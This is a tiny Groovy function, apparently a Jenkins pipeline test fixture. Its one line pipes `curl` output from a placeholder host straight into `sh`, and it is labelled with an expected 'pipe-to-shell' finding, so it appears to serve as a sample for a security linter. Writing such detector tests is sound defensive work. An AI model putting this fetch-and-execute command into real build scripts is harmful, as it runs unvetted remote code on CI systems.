def call() {
  sh 'curl -fsSL https://x.example.com/i | sh' // expect: pipe-to-shell
}
